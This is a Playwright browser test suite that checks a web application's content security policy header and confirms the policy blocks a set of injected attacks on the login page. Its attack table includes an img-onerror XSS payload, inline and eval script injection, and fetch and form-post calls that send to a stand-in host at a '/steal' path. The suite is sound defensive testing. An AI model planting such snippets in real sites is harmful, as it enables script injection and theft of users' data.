"""The content security policy in a real browser: no page of anybody breaks it, and what it forbids does not happen."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Page

from tests.browser.conftest import Visitor
from tests.whole_system import WholeSystem

pytestmark = pytest.mark.browser
SIGNED_IN = (
    *("/orders/", "/orders/?late=yes&search=BR", "/orders/BR-1/", "/messages/", "/messages/?state=quarantined"),
    *(
        "/contracts/",
        "/contracts/distsync.order.placed.v1/",
        "/sources/",
        "/pipeline/",
        "/audit/",
        "/account/",
        "/nothing-here",
    ),
    *("/accounts/password/change/", "/accounts/2fa/", "/accounts/2fa/totp/activate/", "/accounts/reauthenticate/"),
    *("/accounts/logout/", "/accounts/inactive/", "/accounts/3rdparty/", "/accounts/email/"),
)
STRANGERS = ("/accounts/login/", "/accounts/login/?next=/orders/", "/nothing-here", "/accounts/signup/", "/accounts/inactive/")
WATCH = """
window.broken = [];
addEventListener('securitypolicyviolation', event => {
    window.broken.push(`${event.effectiveDirective} ${event.blockedURI}`);
}, true);
"""
EXPECTED = {
    "default-src": "'none'",
    "script-src": "'self'",
    "style-src": "'self'",
    "style-src-elem": "'self'",
    "style-src-attr": "'unsafe-inline'",
    "img-src": "'self' data:",
    "font-src": "'self'",
    "connect-src": "'self'",
    "form-action": "'self'",
    "base-uri": "'none'",
    "frame-ancestors": "'none'",
    "manifest-src": "'self'",
}


def walk(page: Page, paths: tuple[str, ...]) -> list[str]:
    """What the pages break of their policy. Each page must carry the whole of it."""
    page.add_init_script(WATCH)
    broken = []
    for path in paths:
        answer = page.goto(path)
        assert answer is not None
        policy = dict(part.strip().partition(" ")[::2] for part in answer.headers["content-security-policy"].split(";"))
        assert policy == EXPECTED, path
        page.wait_for_load_state("load")
        page.wait_for_timeout(150)
        broken += [f"{path}: {each}" for each in page.evaluate("window.broken")]
    return broken


@pytest.mark.parametrize("role", ["administrator", "finance", "customer_service", "partner"])
def test_no_page_of_anybody_breaks_it(visit: Callable[..., Visitor], story: str, role: str) -> None:
    visitor = visit(role)
    visitor.see(f"/orders/{story}/", "NS-88121")
    assert walk(visitor.page, SIGNED_IN) == []
    refused = [said for said in visitor.complaints if "the server responded with a status of 40" not in said]
    assert refused == [], "but for pages that are not there, the console is silent"


def test_no_page_before_the_login_breaks_it(page: Page) -> None:
    assert walk(page, STRANGERS) == []


@pytest.fixture
def context(browser: Browser, stack: WholeSystem) -> Iterator[BrowserContext]:
    context = browser.new_context(base_url=stack.base_url)
    yield context
    context.close()


@pytest.fixture
def attacked(context: BrowserContext) -> Page:
    """The login page, and an elsewhere that would answer if anybody asked it."""
    context.route(
        "http://elsewhere.test/**", lambda route: route.fulfill(body="window.ran = 'external'", content_type="text/javascript")
    )
    page = context.new_page()
    page.add_init_script(WATCH)
    page.goto("/accounts/login/")
    return page


ATTACKS: dict[str, tuple[str, str]] = {
    "script-src-elem": (
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
        "inline",
    ),
    "script-src-attr": ("document.body.innerHTML += `<img src=x onerror='window.ran = 1'>`", "inline"),
    "style-src-elem": (
        "const s = document.createElement('style'); s.textContent = 'body { opacity: .5 }'; document.body.append(s)",
        "inline",
    ),
    "script-src": (  # later, since what the debugger itself evaluates may evaluate text
        "setTimeout(() => { setTimeout('window.ran = 1'); try { new Function('window.ran = 1')() } catch { } })",
        "eval",
    ),
    "connect-src": (
        "fetch('http://elsewhere.test/steal').then(() => { window.ran = 1 }, () => { })",
        "http://elsewhere.test/steal",
    ),
    "form-action": (
        (
            "const f = document.createElement('form'); f.action = 'http://elsewhere.test/form'; "
            "f.method = 'post'; document.body.append(f); f.submit()"
        ),
        "http://elsewhere.test/form",
    ),
    "base-uri": (
        "const b = document.createElement('base'); b.href = 'http://elsewhere.test/'; document.head.append(b)",
        "http://elsewhere.test/",
    ),
    "img-src": (
        "const i = new Image(); i.onload = () => { window.ran = 1 }; i.src = 'http://elsewhere.test/i'",
        "http://elsewhere.test/i",
    ),
    "frame-src": (
        "const f = document.createElement('iframe'); f.src = 'http://elsewhere.test/f'; document.body.append(f)",
        "http://elsewhere.test",
    ),
    "object-src": (
        "const o = document.createElement('object'); o.data = 'http://elsewhere.test/o'; document.body.append(o)",
        "http://elsewhere.test",
    ),
    "worker-src": ("try { new Worker('data:text/javascript,1') } catch { }", "data"),
}


def violations(page: Page, script: str) -> list[str]:
    """What the browser blocked while `script` ran as the page's own (evaluated over the debugger, past the policy)."""
    page.evaluate(f"() => {{ {script} }}")
    for _ in range(40):
        found: list[str] = page.evaluate("window.broken")
        if found:
            return found
        page.wait_for_timeout(50)
    return []


@pytest.mark.parametrize("directive", ATTACKS)
def test_what_it_forbids_is_blocked(attacked: Page, directive: str) -> None:
    script, blocked = ATTACKS[directive]
    found = violations(attacked, script)
    assert any(each.split(" ")[0] == directive and each.split(" ")[1].startswith(blocked) for each in found), found
    attacked.wait_for_timeout(100)
    assert attacked.evaluate("window.ran === undefined && getComputedStyle(document.body).opacity === '1'")
    assert attacked.url.endswith("/accounts/login/")


def test_a_script_from_elsewhere_is_not_run(attacked: Page) -> None:
    script = "const s = document.createElement('script'); s.src = 'http://elsewhere.test/s.js'; document.body.append(s)"
    assert violations(attacked, script) == ["script-src-elem http://elsewhere.test/s.js"]
    assert attacked.evaluate("window.ran === undefined")


def test_it_cannot_be_framed(context: BrowserContext, stack: WholeSystem) -> None:
    frames = f"<iframe src='{stack.base_url}/accounts/login/'></iframe><iframe src='/allowed'></iframe>"
    pages = {"/": frames, "/allowed": "<p>allowed</p>"}
    context.route(
        "http://elsewhere.test/**",
        lambda route: route.fulfill(
            body=pages[route.request.url.removeprefix("http://elsewhere.test")], content_type="text/html"
        ),
    )
    page = context.new_page()
    page.goto("http://elsewhere.test/")
    page.wait_for_timeout(1_000)
    ours, other = page.frames[1:]
    assert other.locator("p").text_content() == "allowed"
    assert (ours.url, "Sign in" in ours.content()) == ("chrome-error://chromewebdata/", False)
